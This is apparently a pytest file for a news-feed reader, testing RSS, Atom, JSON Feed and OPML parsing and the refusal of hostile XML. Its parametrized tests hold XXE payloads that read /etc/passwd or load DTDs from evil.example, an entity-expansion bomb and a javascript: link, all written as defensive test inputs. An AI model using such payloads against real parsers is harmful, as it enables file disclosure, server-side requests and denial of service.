"""Feeds: their entries, the pages behind them, and XML that tries to harm."""

import socket
import time

import pytest

from rashomon.errors import InputError
from rashomon.reading import read_articles
from rashomon.reading.fetching import Fetched

ENTRY = "<p>The ministers of the two states met on Monday to talk about the border, &amp;c.</p>"
PARAGRAPHS = "".join(
    f"<p>The ministers of the two states met for the {ordinal} time to talk about the border.</p>"
    for ordinal in ("first", "second", "third", "fourth")
)
PAGE = f"<html><head><title>The page</title></head><body><article>{PARAGRAPHS}</article></body></html>"
RSS = """<?xml version="1.0"?><rss version="2.0"><channel><title>Lumen Times</title>
<item><title>Talks &lt;b&gt;on&lt;/b&gt; the border</title><link>https://news.example/1</link><author>Ada Roe</author>
<pubDate>Thu, 28 Aug 2025 09:00:00 +0200</pubDate><description><![CDATA[%s]]></description></item>
<item><title>Bad</title><link>javascript:alert(1)</link><description>The end of the talks is not in sight.</description></item>
</channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Lumen Times</title><entry><title>Talks</title>
<link href="https://news.example/1"/><updated>2025-08-28T09:00:00Z</updated><content type="html">%s</content></entry></feed>"""
JSON_FEED = """{"version": "https://jsonfeed.org/version/1.1", "title": "Lumen Times", "items": [{"id": "1",
"url": "https://news.example/1", "title": "Talks", "authors": [{"name": "Ada Roe"}], "date_published": "2025-08-28T09:00:00Z",
"content_html": "<p>The ministers of the two states met on Monday.</p>"}, 7]}"""
OPML = (
    '<opml version="2.0"><body><outline text="a"><outline xmlUrl="https://news.example/feed"/></outline></body></opml>'
)
BOMB = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>
<rss version="2.0"><channel><title>&b;</title></channel></rss>"""


def saved(folder, content, name="feed.xml"):
    path = folder / name
    path.write_text(content)
    return str(path)


def pages(known):
    def fetch(url, **_known):
        if url not in known:
            raise InputError(url, "the server answers HTTP 404")
        return Fetched(known[url].encode(), url, None)

    return fetch


def test_an_entry_without_its_page_is_what_the_feed_says(tmp_path):
    reading = read_articles([saved(tmp_path, RSS % ENTRY)], fetch=False)
    first, second = reading.articles
    assert first.text == "The ministers of the two states met on Monday to talk about the border, &c."
    assert (first.title, first.outlet, first.byline) == ("Talks on the border", "Lumen Times", "Ada Roe")
    assert (first.url, first.published) == ("https://news.example/1", "2025-08-28T07:00:00+00:00")
    assert second.url is None


def test_the_page_of_an_entry_is_fetched_and_the_feed_fills_the_gaps(tmp_path):
    reading = read_articles([saved(tmp_path, RSS % ENTRY)], fetcher=pages({"https://news.example/1": PAGE}))
    first = reading.articles[0]
    assert first.text.count("ministers") == 4
    assert (first.title, first.outlet, first.byline) == ("The page", "Lumen Times", "Ada Roe")


def test_a_page_that_cannot_be_fetched_leaves_the_entry_and_is_named(tmp_path):
    reading = read_articles([saved(tmp_path, RSS % ENTRY)], fetcher=pages({}))
    assert reading.articles[0].title == "Talks on the border"
    assert [problem.where for problem in reading.unread] == ["https://news.example/1"]


@pytest.mark.parametrize("feed", [ATOM % ENTRY.replace("<", "&lt;"), JSON_FEED], ids=["Atom", "JSON Feed"])
def test_atom_and_json_feeds_read_alike(tmp_path, feed):
    (article,) = read_articles([saved(tmp_path, feed)], fetch=False).articles
    assert article.text.startswith("The ministers of the two states met on Monday")
    assert (article.outlet, article.url) == ("Lumen Times", "https://news.example/1")
    assert article.published.startswith("2025-08-28T09:00:00")


def test_the_feeds_of_an_opml_list_are_fetched(tmp_path):
    known = {"https://news.example/feed": RSS % ENTRY, "https://news.example/1": PAGE}
    reading = read_articles([saved(tmp_path, OPML)], fetcher=pages(known))
    assert len(reading.articles) == 2
    offline = read_articles([saved(tmp_path, OPML)], fetch=False)
    assert "--no-fetch" in offline.unread[0].what


@pytest.mark.parametrize(
    "xml",
    [
        BOMB,
        BOMB.replace("rss", "opml"),
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel>&x;</channel></rss>',
        '<!DOCTYPE feed SYSTEM "http://evil.example/a.dtd"><feed xmlns="http://www.w3.org/2005/Atom"/>',
        '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><opml version="1.0"><body/></opml>',
        BOMB.replace("<!DOCTYPE", "<!-- x --><!doctype"),
    ],
)
def test_xml_that_defines_entities_is_refused_before_it_is_parsed(tmp_path, monkeypatch, xml):
    def no_network(*_args, **_kwargs):
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", no_network)
    started = time.perf_counter()
    reading = read_articles([saved(tmp_path, xml)])
    assert time.perf_counter() - started < 2
    assert reading.articles == ()
    assert "entities" in reading.problems[0].what


@pytest.mark.parametrize(
    "prolog",
    [
        "",
        "<?xml version='1.0'?>\n<!-- a feed -->\n",
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD" "a.dtd">',
    ],
)
def test_an_entry_may_quote_a_doctype(tmp_path, prolog):
    quoted = ENTRY + "<pre>&lt;!DOCTYPE x [&lt;!ENTITY a 'b'&gt;]&gt;</pre> <!DOCTYPE html PUBLIC 'x'>"
    feed = prolog + (RSS % quoted).partition("?>")[2]
    assert len(read_articles([saved(tmp_path, feed)], fetch=False).articles) == 2


def test_entities_in_utf_16_are_refused_too(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_bytes(BOMB.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"))
    assert read_articles([str(path)]).articles == ()


def test_an_honest_feed_full_of_ampersands_is_read_whole(tmp_path):
    body = "The minister of the state &amp;amp; " * 30_000
    feed = saved(tmp_path, RSS.replace("<![CDATA[%s]]>", body))
    article, _ = read_articles([feed], fetch=False).articles
    assert article.text.count("&") == 30_000


def test_what_only_looks_like_a_feed_is_named(tmp_path):
    (problem,) = read_articles([saved(tmp_path, "<rss><<<")]).problems
    assert problem.kind == "unread"
